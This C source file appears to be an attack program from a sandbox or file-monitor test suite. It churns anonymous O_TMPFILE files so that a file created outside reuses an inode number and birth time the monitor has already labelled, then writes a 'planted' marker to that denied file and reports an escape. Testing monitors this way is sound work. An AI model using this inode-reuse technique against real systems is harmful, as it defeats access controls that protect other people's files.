/* Makes files without a name and closes them, so that the next file that somebody makes outside has the inode number of one of
 * them, and its birth time: with those, the label that the monitor knows it by. Writes to that file where it can. */
#include "attack.h"

enum { FILES = 8 };

static void leave_numbers(void) {
    char path[64];
    for (int n = 0; n < FILES; n++) {
        int made = open(".", O_TMPFILE | O_RDWR, 0600);
        snprintf(path, sizeof path, "/proc/self/fd/%d", made);
        /* Has the monitor look at it. */
        close(open(path, O_RDONLY));
        close(made);
    }
}

int main(int argc, char **argv) {
    double end = now() + atof(argv[2]);
    while (now() < end) {
        leave_numbers();
        int denied = open(argv[1], O_RDWR | O_APPEND);
        if (denied < 0) continue;
        write(denied, "planted\n", 8);
        escaped("writes to what was made outside");
    }
    return 0;
}
